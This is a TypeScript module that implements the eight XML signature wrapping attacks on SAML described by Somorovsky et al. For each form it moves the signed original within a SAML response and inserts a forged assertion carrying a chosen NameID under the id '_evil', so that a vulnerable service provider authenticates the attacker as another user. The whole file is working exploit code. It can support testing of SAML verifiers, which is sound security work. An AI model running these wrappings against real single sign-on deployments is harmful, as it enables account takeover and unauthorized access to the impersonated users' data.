// The eight forms of XML signature wrapping (Somorovsky et al., On Breaking SAML, USENIX Security 2012): the signed part stays intact, and a forged one is read.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom'

const DSIG = 'http://www.w3.org/2000/09/xmldsig#'
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol'

const childOf = (parent: Element, name: string): Element => {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).localName === name) return node as Element
  }
  throw new Error(`no ${name}`)
}
const copyOf = (element: Element): Element => element.cloneNode(true) as Element
const withoutSignature = (element: Element): Element => {
  element.removeChild(childOf(element, 'Signature'))
  return element
}
/** A forged assertion of another person, under its own id. */
const evil = (element: Element, id: string, nameId: string): Element => {
  element.setAttribute('ID', id)
  const assertion = element.localName === 'Assertion' ? element : childOf(element, 'Assertion')
  childOf(childOf(assertion, 'Subject'), 'NameID').textContent = nameId
  return element
}

type Parts = { readonly document: Document; readonly response: Element; readonly assertion: Element; readonly nameId: string }
const own = ({ document }: Parts, namespace: string, name: string): Element => document.createElementNS(namespace, name)

/** Forms 1 and 2 wrap a signed message, the others a signed assertion. */
const SHAPES: readonly ((parts: Parts) => void)[] = [
  ({ response, nameId }) => {
    const original = withoutSignature(copyOf(response))
    childOf(response, 'Signature').appendChild(original)
    evil(response, '_evil', nameId)
  },
  ({ response, nameId }) => {
    const original = withoutSignature(copyOf(response))
    response.insertBefore(original, childOf(response, 'Signature'))
    evil(response, '_evil', nameId)
  },
  ({ response, assertion, nameId }) => void response.insertBefore(evil(withoutSignature(copyOf(assertion)), '_evil', nameId), assertion),
  ({ response, assertion, nameId }) => void response.appendChild(evil(withoutSignature(copyOf(assertion)), '_evil', nameId)).appendChild(assertion),
  ({ response, assertion, nameId }) => {
    response.appendChild(withoutSignature(copyOf(assertion)))
    evil(assertion, '_evil', nameId)
  },
  ({ assertion, nameId }) => {
    childOf(assertion, 'Signature').appendChild(withoutSignature(copyOf(assertion)))
    evil(assertion, '_evil', nameId)
  },
  (parts) => {
    const extensions = own(parts, SAMLP, 'samlp:Extensions')
    extensions.appendChild(evil(withoutSignature(copyOf(parts.assertion)), '_evil', parts.nameId))
    parts.response.insertBefore(extensions, parts.assertion)
  },
  (parts) => {
    const object = own(parts, DSIG, 'ds:Object')
    object.appendChild(withoutSignature(copyOf(parts.assertion)))
    childOf(parts.assertion, 'Signature').appendChild(object)
    evil(parts.assertion, '_evil', parts.nameId)
  },
]
export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const

export const wrapped = (xml: string, shape: (typeof WRAPPINGS)[number], nameId: string): string => {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  SHAPES[shape - 1]?.({ document, response, assertion: childOf(response, 'Assertion'), nameId })
  return new XMLSerializer().serializeToString(document)
}
